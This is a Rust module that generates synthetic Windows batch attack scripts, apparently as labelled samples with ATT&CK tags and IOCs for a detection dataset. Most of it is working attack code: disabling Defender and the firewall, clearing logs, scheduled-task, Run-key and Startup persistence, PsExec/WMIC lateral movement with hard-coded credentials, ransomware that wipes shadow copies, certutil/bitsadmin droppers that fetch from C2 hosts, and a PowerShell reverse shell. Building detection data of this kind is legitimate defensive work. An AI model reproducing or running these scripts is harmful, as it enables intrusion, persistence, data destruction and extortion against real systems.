//! Windows batch: attacker tooling families.

use rand::Rng;

use super::batch::header;
use super::names::{self, fill, pick, R};
use super::{Draft, Family};

pub(crate) const FAMILIES: &[Family] = &[
    Family {
        name: "av-firewall-disable",
        description:
            "A defence evasion script that disables Microsoft Defender and the Windows firewall",
        gen: av_disable,
    },
    Family {
        name: "scheduled-task-persistence",
        description: "A persistence script that hides a payload behind a scheduled task",
        gen: schtask,
    },
    Family {
        name: "registry-run-persistence",
        description: "A persistence script that registers a payload under a registry Run key",
        gen: run_key,
    },
    Family {
        name: "psexec-lateral-movement",
        description:
            "A lateral movement script that pushes a payload to other hosts with PsExec and WMIC",
        gen: psexec,
    },
    Family {
        name: "ransomware",
        description: "Ransomware that destroys backups, encrypts files and leaves a ransom note",
        gen: ransomware,
    },
    Family {
        name: "certutil-dropper",
        description:
            "A dropper that downloads and launches a second stage with living-off-the-land binaries",
        gen: dropper,
    },
    Family {
        name: "startup-folder-persistence",
        description: "A persistence script that plants a launcher in the Startup folder",
        gen: startup,
    },
];

fn payload(r: &mut R) -> (String, String) {
    let dir = names::win_drop_dir(r);
    let name = names::stealth_name(r);
    (format!("{dir}\\{name}.exe"), name.to_string())
}

fn av_disable(r: &mut R) -> Draft {
    let dir = names::win_drop_dir(r);
    let mut c = header(r, "system tweaks");
    c.push_str(&fill(
        r#"net session >nul 2>&1 || (echo Run as administrator & exit /b 1)
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection" /v DisableRealtimeMonitoring /t REG_DWORD /d 1 /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection" /v DisableBehaviorMonitoring /t REG_DWORD /d 1 /f
powershell -NoProfile -Command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath '@DIR@'"
sc stop WinDefend >nul 2>&1
sc config WinDefend start= disabled >nul 2>&1
netsh advfirewall set allprofiles state off
sc stop wscsvc & sc config wscsvc start= disabled
vssadmin delete shadows /all /quiet >nul 2>&1
wevtutil cl Security & wevtutil cl System & wevtutil cl "Windows PowerShell"
"#,
        &[("DIR", dir)],
    ));
    Draft {
        content: c,
        purpose: "disables Microsoft Defender, the Windows firewall and the Security Center, then clears the event logs".into(),
        steps: vec![
            "checks for administrator rights with net session".into(),
            "sets DisableAntiSpyware, DisableRealtimeMonitoring and DisableBehaviorMonitoring to 1 under HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender with reg add".into(),
            format!("calls Set-MpPreference -DisableRealtimeMonitoring and adds {dir} as a Defender exclusion path"),
            "stops WinDefend and wscsvc with sc and turns off every firewall profile with netsh advfirewall set allprofiles state off".into(),
            "deletes volume shadow copies and clears the Security, System and PowerShell logs with wevtutil cl".into(),
        ],
        effects: vec!["The machine is left without antivirus, firewall, restore points or recent logs.".into()],
        behaviours: vec![
            "Disables Microsoft Defender (T1562.001)".into(),
            "Disables the Windows firewall (T1562.004)".into(),
            "Clears Windows event logs (T1070.001)".into(),
            "Deletes shadow copies (T1490)".into(),
        ],
        iocs: vec!["DisableAntiSpyware".into(), "netsh advfirewall set allprofiles state off".into(), dir.to_string()],
    }
}

fn schtask(r: &mut R) -> Draft {
    let (exe, name) = payload(r);
    let task = format!(
        "{}{}",
        pick(
            r,
            &["Microsoft\\Windows\\", "", "GoogleUpdateTask", "OneDrive "]
        ),
        names::pascal(pick(r, &["updater", "telemetry", "sync", "maintenance"]))
    );
    let host = names::c2_host(r);
    let url = format!("http://{host}{}", names::url_path(r));
    let mins = r.random_range(5..60);
    let mut c = header(r, "setup");
    c.push_str(&fill(
        r#"set "P=@EXE@"
if not exist "%P%" (
    powershell -w hidden -c "(New-Object Net.WebClient).DownloadFile('@URL@','%P%')"
    attrib +h +s "%P%"
)
schtasks /create /tn "@TASK@" /tr "\"%P%\" -silent" /sc minute /mo @MINS@ /ru SYSTEM /rl HIGHEST /f >nul 2>&1
if errorlevel 1 schtasks /create /tn "@TASK@" /tr "\"%P%\" -silent" /sc onlogon /f >nul 2>&1
schtasks /run /tn "@TASK@" >nul 2>&1
"#,
        &[("EXE", &exe), ("URL", &url), ("TASK", &task), ("MINS", &mins.to_string())],
    ));
    Draft {
        content: c,
        purpose: format!("installs {name}.exe from {host} and keeps it running through a scheduled task named {task}"),
        steps: vec![
            format!("downloads {url} with a hidden PowerShell WebClient.DownloadFile call to {exe} if it is not present"),
            "hides the file with attrib +h +s".into(),
            format!("creates the task {task} with schtasks /create /sc minute /mo {mins} /ru SYSTEM /rl HIGHEST"),
            "falls back to an /sc onlogon task for the current user when SYSTEM is refused and starts the task immediately with schtasks /run".into(),
        ],
        effects: vec![format!("The payload runs as SYSTEM every {mins} minutes, or at each logon, under a name chosen to look like a Windows component.")],
        behaviours: vec![
            "Persists via a scheduled task (T1053.005)".into(),
            "Downloads a payload (T1105)".into(),
            "Hides files with attributes (T1564.001)".into(),
        ],
        iocs: vec![url, task, "schtasks /create".into()],
    }
}

fn run_key(r: &mut R) -> Draft {
    let (exe, _) = payload(r);
    let val = names::pascal(names::stealth_name(r));
    let hive = pick(r, &["HKCU", "HKLM"]);
    let host = names::c2_host(r);
    let mut c = header(r, "register helper");
    c.push_str(&fill(
        r#"set "BIN=@EXE@"
copy /y "%~f0" "%BIN%.cmd" >nul 2>&1
bitsadmin /transfer job%random% /download /priority high http://@HOST@/u.bin "%BIN%" >nul
reg add "@HIVE@\Software\Microsoft\Windows\CurrentVersion\Run" /v "@VAL@" /t REG_SZ /d "\"%BIN%\"" /f >nul
reg add "@HIVE@\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v "@VAL@Setup" /t REG_SZ /d "cmd /c \"%BIN%.cmd\"" /f >nul
start "" /b "%BIN%"
"#,
        &[("EXE", &exe), ("HOST", &host), ("HIVE", hive), ("VAL", &val)],
    ));
    Draft {
        content: c,
        purpose: format!("downloads a binary from {host} and registers it under the {hive} Run key as {val}"),
        steps: vec![
            format!("copies itself next to the payload path {exe} as a .cmd file"),
            format!("downloads http://{host}/u.bin with bitsadmin /transfer to {exe}"),
            format!("adds the value {val} under {hive}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run pointing at the binary"),
            "adds a RunOnce entry that re-runs the copied script and starts the binary in the background with start /b".into(),
        ],
        effects: vec!["The binary starts automatically at every logon and the script itself re-runs once after the next restart.".into()],
        behaviours: vec![
            "Persists via registry Run keys (T1547.001)".into(),
            "Downloads with BITS (T1197)".into(),
        ],
        iocs: vec![format!("http://{host}/u.bin"), "CurrentVersion\\Run".into(), val],
    }
}

fn psexec(r: &mut R) -> Draft {
    let (exe, name) = payload(r);
    let user = format!(
        "{}\\{}",
        names::pascal(names::company(r)).to_uppercase(),
        names::user(r)
    );
    let pass = format!(
        "{}{}!",
        names::pascal(names::word(r)),
        r.random_range(2000..2030)
    );
    let subnet = names::private_ip(r);
    let net: String = subnet
        .rsplit_once('.')
        .map(|(n, _)| n.to_string())
        .unwrap_or_else(|| "10.0.0".to_string());
    let mut c = header(r, "deploy");
    c.push_str(&fill(
        r#"set "U=@USER@"
set "PW=@PASS@"
set "PL=@EXE@"
for /l %%i in (1,1,254) do (
    ping -n 1 -w 200 @NET@.%%i | find "TTL=" >nul && (
        echo @NET@.%%i>> "%TEMP%\hosts.txt"
    )
)
for /f %%h in (%TEMP%\hosts.txt) do (
    net use \\%%h\ADMIN$ /user:%U% %PW% >nul 2>&1 && (
        copy /y "%PL%" \\%%h\ADMIN$\@NAME@.exe >nul
        psexec.exe \\%%h -accepteula -s -d -u %U% -p %PW% C:\Windows\@NAME@.exe
        wmic /node:%%h /user:%U% /password:%PW% process call create "C:\Windows\@NAME@.exe" >nul
        net use \\%%h\ADMIN$ /delete /y >nul
    )
)
del "%TEMP%\hosts.txt"
"#,
        &[
            ("USER", &user),
            ("PASS", &pass),
            ("EXE", &exe),
            ("NET", &net),
            ("NAME", &name),
        ],
    ));
    Draft {
        content: c,
        purpose: format!("sweeps the {net}.0/24 network and pushes {name}.exe to every reachable host with stolen domain credentials"),
        steps: vec![
            format!("pings {net}.1 to {net}.254 once each and records hosts that answer with a TTL"),
            format!("mounts each host's ADMIN$ share with net use as {user} and a hard-coded password"),
            format!("copies the payload to ADMIN$\\{name}.exe"),
            "launches it remotely with psexec.exe -accepteula -s -d and again with wmic /node process call create".into(),
        ],
        effects: vec![format!("Every host in the subnet where the account {user} is an administrator ends up running the payload as SYSTEM.")],
        behaviours: vec![
            "Moves laterally over SMB admin shares (T1021.002)".into(),
            "Executes remotely with PsExec (T1569.002)".into(),
            "Executes remotely with WMI (T1047)".into(),
            "Uses valid accounts (T1078)".into(),
        ],
        iocs: vec![user, "psexec.exe".into(), format!("{net}.")],
    }
}

fn ransomware(r: &mut R) -> Draft {
    let ext = format!(".{}", names::token(r, 5));
    let email = format!(
        "{}@{}",
        names::token(r, 8),
        pick(
            r,
            &["protonmail.com", "onionmail.org", "tutanota.com", "cock.li"]
        )
    );
    let btc = format!("bc1q{}", names::token(r, 38));
    let price = pick(r, &["0.5", "1.2", "2", "0.8"]);
    let mut c = header(r, "update");
    c.push_str(&fill(
        r#"vssadmin delete shadows /all /quiet
wmic shadowcopy delete
bcdedit /set {default} recoveryenabled No
bcdedit /set {default} bootstatuspolicy ignoreallfailures
wbadmin delete catalog -quiet
for %%s in (MSSQLSERVER SQLWriter veeam backupexec) do net stop %%s /y >nul 2>&1
set "KEY=%random%%random%%random%"
for %%d in (C D E F) do (
    if exist %%d:\ (
        for /r %%d:\ %%f in (*.doc *.docx *.xls *.xlsx *.pdf *.jpg *.sql *.bak) do (
            certutil -encode "%%f" "%%f@EXT@" >nul 2>&1 && del /f /q "%%f"
            echo Your files are encrypted. Send @PRICE@ BTC to @BTC@ and mail @EMAIL@ > "%%~dpfREADME_RESTORE.txt"
        )
    )
)
echo Your files are encrypted. Send @PRICE@ BTC to @BTC@ and mail @EMAIL@ > "%USERPROFILE%\Desktop\README_RESTORE.txt"
start notepad "%USERPROFILE%\Desktop\README_RESTORE.txt"
"#,
        &[("EXT", &ext), ("EMAIL", &email), ("BTC", &btc), ("PRICE", price)],
    ));
    Draft {
        content: c,
        purpose: format!("destroys backups and recovery options, scrambles documents on drives C to F into {ext} files and drops a ransom note"),
        steps: vec![
            "deletes shadow copies with vssadmin delete shadows /all /quiet and wmic shadowcopy delete".into(),
            "turns off Windows recovery with bcdedit /set {default} recoveryenabled No and deletes the wbadmin catalog".into(),
            "stops MSSQLSERVER, SQLWriter and Veeam and Backup Exec services so their files are unlocked".into(),
            format!("walks drives C, D, E and F for documents, images, SQL files and backups, rewrites each with certutil -encode into a copy ending in {ext} and deletes the original"),
            format!("writes README_RESTORE.txt into every folder and on the desktop demanding {price} BTC to {btc} with contact {email}"),
        ],
        effects: vec!["Original files are deleted and recovery through shadow copies or Windows backup is no longer possible.".into()],
        behaviours: vec![
            "Encrypts or encodes files for impact (T1486)".into(),
            "Inhibits system recovery (T1490)".into(),
            "Stops services (T1489)".into(),
        ],
        iocs: vec![email, btc, ext, "vssadmin delete shadows /all /quiet".into()],
    }
}

fn dropper(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let path = names::url_path(r);
    let (exe, name) = payload(r);
    let v = r.random_range(0..3);
    let (dl, how) = match v {
        0 => (format!("certutil -urlcache -split -f http://{host}{path}.txt \"%TMP_B64%\" >nul\ncertutil -decode \"%TMP_B64%\" \"%PL%\" >nul"), "certutil -urlcache -split -f and then decodes it with certutil -decode"),
        1 => (format!("bitsadmin /transfer upd /download /priority foreground http://{host}{path}.txt \"%TMP_B64%\"\ncertutil -decode \"%TMP_B64%\" \"%PL%\" >nul"), "bitsadmin /transfer and then decodes it with certutil -decode"),
        _ => (format!("curl.exe -s -k -o \"%TMP_B64%\" http://{host}{path}.txt\ncertutil -decode \"%TMP_B64%\" \"%PL%\" >nul"), "curl.exe -s -k and then decodes it with certutil -decode"),
    };
    let mut c = header(r, "installer");
    c.push_str(&fill(
        r#"set "TMP_B64=%TEMP%\~@TOK@.tmp"
set "PL=@EXE@"
@DL@
del /q "%TMP_B64%"
if exist "%PL%" (
    start "" /min rundll32.exe "%PL%",DllRegisterServer
    timeout /t 3 /nobreak >nul
    start "" /b "%PL%"
)
(goto) 2>nul & del "%~f0"
"#,
        &[("TOK", &names::token(r, 6)), ("EXE", &exe), ("DL", &dl)],
    ));
    Draft {
        content: c,
        purpose: format!("drops a second-stage payload named {name}.exe fetched as base64 text from {host}"),
        steps: vec![
            format!("downloads http://{host}{path}.txt with {how} into {exe}"),
            "removes the temporary base64 file".into(),
            "runs the payload through rundll32.exe with the DllRegisterServer entry point and then directly with start /b".into(),
            "deletes its own batch file with the (goto) 2>nul & del \"%~f0\" trick".into(),
        ],
        effects: vec![format!("A second stage from {host} executes on the machine and the dropper leaves no copy of itself behind.")],
        behaviours: vec![
            "Downloads a payload with system utilities (T1105)".into(),
            "Decodes files with certutil (T1140)".into(),
            "Proxies execution through rundll32 (T1218.011)".into(),
            "Deletes itself (T1070.004)".into(),
        ],
        iocs: vec![format!("http://{host}{path}.txt"), "certutil -decode".into(), exe],
    }
}

fn startup(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let port = names::c2_port(r);
    let name = names::stealth_name(r);
    let mut c = header(r, "shortcut helper");
    c.push_str(&fill(
        r#"set "SU=%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup"
set "VBS=%SU%\@NAME@.vbs"
> "%VBS%" echo Set s = CreateObject("WScript.Shell")
>> "%VBS%" echo s.Run "powershell -nop -w hidden -c ""$c=New-Object Net.Sockets.TCPClient('@HOST@',@PORT@);$s=$c.GetStream();[byte[]]$b=0..65535|%%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write([text.encoding]::ASCII.GetBytes($o),0,$o.Length)}""", 0, False
attrib +h "%VBS%"
wscript.exe //B "%VBS%"
"#,
        &[("NAME", name), ("HOST", &host), ("PORT", &port.to_string())],
    ));
    Draft {
        content: c,
        purpose: format!("plants a hidden VBScript launcher named {name}.vbs in the Startup folder that opens a PowerShell reverse shell to {host}:{port}"),
        steps: vec![
            "resolves the per-user Startup folder under %APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup".into(),
            format!("writes {name}.vbs line by line with echo redirection; it uses WScript.Shell to run a hidden PowerShell TCPClient loop to {host} on port {port}"),
            "hides the file with attrib +h".into(),
            "starts it at once with wscript.exe //B".into(),
        ],
        effects: vec![format!("Every logon of this user hands a PowerShell prompt to {host}:{port} without any visible window.")],
        behaviours: vec![
            "Persists in the Startup folder (T1547.001)".into(),
            "Creates a PowerShell reverse shell (T1059.001)".into(),
            "Uses VBScript (T1059.005)".into(),
        ],
        iocs: vec![host, format!("{name}.vbs"), port.to_string()],
    }
}
